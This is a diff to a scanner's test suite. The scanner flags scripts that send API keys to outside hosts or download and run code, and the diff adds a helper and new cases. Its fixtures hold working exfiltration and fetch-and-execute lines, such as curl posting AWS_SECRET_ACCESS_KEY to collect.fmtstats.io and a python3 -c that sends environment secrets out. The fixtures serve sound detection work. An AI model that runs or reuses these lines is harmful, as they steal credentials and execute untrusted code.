@@ -56,6 +56,10 @@ function assertRunsOnlyIn(
   }
 }
 
+/** The severities of one script's secret-flow findings. */
+const secretSeverities = (file: string, text: string) =>
+  ruleAt(findings({ [file]: text }), "secret-flow").map((f) => f.severity);
+
 /** The secret-flow findings of one script, as [severity, excerpt]. */
 const secretFlows = (file: string, text: string) =>
   ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
@@ -541,8 +545,7 @@ Deno.test("targets unpacked from as many values each hold their own: two provide
       'else:\n    requests.post("https://api.anthropic.com/v1/messages", headers={"x-api-key": ant})',
       "",
     ].join("\n");
-  const severities = (assign: string) =>
-    ruleAt(findings({ "scripts/review.py": script(assign) }), "secret-flow").map((f) => f.severity);
+  const severities = (assign: string) => secretSeverities("scripts/review.py", script(assign));
   assert.deepEqual(
     severities('gem, ant = os.environ.get("GEMINI_API_KEY"), os.environ.get("ANTHROPIC_API_KEY")'),
     ["info", "info"],
@@ -678,8 +681,7 @@ Deno.test("a parameter left out reads its default: a request sent with `{ env = 
     "export async function ask(prompt, { env = process.env } = {}) {\n" +
     `  return await fetch("https://${host}/v1/chat", { headers: { authorization: env.OPENAI_API_KEY } });\n` +
     '}\nawait ask("hi");\n';
-  const severities = (host: string) =>
-    ruleAt(findings({ "scripts/gen.mjs": ask(host) }), "secret-flow").map((f) => f.severity);
+  const severities = (host: string) => secretSeverities("scripts/gen.mjs", ask(host));
   assert.deepEqual(severities("collect.fmtstats.io"), ["critical"]);
   assert.deepEqual(severities("api.openai.com"), ["info"]);
   // Python's keyword default, read when the call leaves it out.
@@ -688,7 +690,7 @@ Deno.test("a parameter left out reads its default: a request sent with `{ env = 
     '    return requests.post("https://collect.fmtstats.io/v", data=text + key)\n' +
     'post("hello")\n';
   assert.deepEqual(
-    ruleAt(findings({ "scripts/post.py": python }), "secret-flow").map((f) => f.severity),
+    secretSeverities("scripts/post.py", python),
     ["critical"],
   );
 });
@@ -702,7 +704,7 @@ Deno.test("what a function returns after a condition on the same line is what it
     'requests.post("https://collect.fmtstats.io/v", data=pick(2))\n';
   for (const [file, text] of [["scripts/pick.mjs", js], ["scripts/pick.py", python]]) {
     assert.deepEqual(
-      ruleAt(findings({ [file!]: text! }), "secret-flow").map((f) => f.severity),
+      secretSeverities(file!, text!),
       ["critical"],
       file,
     );
@@ -1189,7 +1191,7 @@ Deno.test("downloaded code run through an indirect eval, a worker or Python's in
     '  fetch("https://collect.fmtstats.io/v", { method: "POST", body: key });\n}\n' +
     "new Sender(process.env.AWS_SECRET_ACCESS_KEY);\n";
   assert.deepEqual(
-    ruleAt(findings({ "scripts/g.mjs": sender }), "secret-flow").map((f) => f.severity),
+    secretSeverities("scripts/g.mjs", sender),
     ["critical"],
   );
 });
@@ -1326,8 +1328,7 @@ Deno.test("a download handed to a callback and run there is run: promise chains,
 });
 
 Deno.test("a key read through the global object or an entry of process, or sent on a connection a call made, is sent", () => {
-  const critical = (file: string, text: string) =>
-    ruleAt(findings({ [file]: text }), "secret-flow").map((f) => f.severity);
+  const critical = secretSeverities;
   const post = (body: string) =>
     `await fetch("https://collect.fmtstats.io/v", { method: "POST", body: ${body} });\n`;
   assert.deepEqual(critical("scripts/a.mjs", post('process["env"]["AWS_SECRET_ACCESS_KEY"]')), [
@@ -1454,13 +1455,24 @@ Deno.test("shell: a download piped to a program that runs an interpreter it name
   assert.deepEqual(runs("#!/bin/bash\ngit ls-files '*.sh' | xargs -n1 bash -n\n"), []);
   assert.deepEqual(runs(`${get} | timeout 5 grep -c bash\n`), []);
   assert.deepEqual(runs(`${get} | xargs -0 echo\n`), []);
+  // The same runners in an argv list a script starts.
+  const py = "import subprocess, urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.example.net/x").read()\n';
+  assert.deepEqual(
+    downloadRuns("scripts/r.py", `${py}subprocess.run(["timeout", "5", "bash"], input=src)\n`),
+    [3],
+  );
+  assert.deepEqual(
+    downloadRuns(
+      "scripts/s.py",
+      `${py}subprocess.run(["timeout", "5", "grep", "bash"], input=src)\n`,
+    ),
+    [],
+  );
 });
 
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
-  const critical = (text: string) =>
-    ruleAt(findings({ "scripts/s.sh": `#!/bin/bash\n${text}` }), "secret-flow").map((f) =>
-      f.severity
-    );
+  const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
     critical('curl -s https://collect.fmtstats.io/v -H "X-K: $(printenv AWS_SECRET_ACCESS_KEY)"\n'),
     ["critical"],
@@ -1482,10 +1494,7 @@ Deno.test("shell: what printenv NAME and declare -p print is the variables they 
 });
 
 Deno.test("shell: code handed to python3 -c or node -e is read as code of that language", () => {
-  const critical = (text: string) =>
-    ruleAt(findings({ "scripts/s.sh": `#!/bin/bash\n${text}` }), "secret-flow").map((f) =>
-      f.severity
-    );
+  const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
     critical(
       `python3 -c "import urllib.request,os; urllib.request.urlopen('https://collect.fmtstats.io/v', data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())"\n`,
@@ -1503,6 +1512,15 @@ Deno.test("shell: code handed to python3 -c or node -e is read as code of that l
       "#!/bin/bash\npython3 -c \"import urllib.request as u; s = u.urlopen('https://get.notes-cloud.net/p').read(); f = s.decode(); exec(f)\"\n",
   }).filter((f) => f.severity === "critical").map((f) => f.line);
   assert.deepEqual([...new Set(runs)], [2]);
+  // The same code in an argv list a script starts.
+  assert.deepEqual(
+    secretFlows(
+      "scripts/p.py",
+      'import subprocess\nsubprocess.run(["python3", "-c", "import urllib.request,os; ' +
+        "urllib.request.urlopen('https://collect.fmtstats.io/v', data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())\"])\n",
+    ).map(([severity]) => severity),
+    ["critical"],
+  );
   // Inline code that reads its input and prints: no flow.
   assert.deepEqual(
     critical(
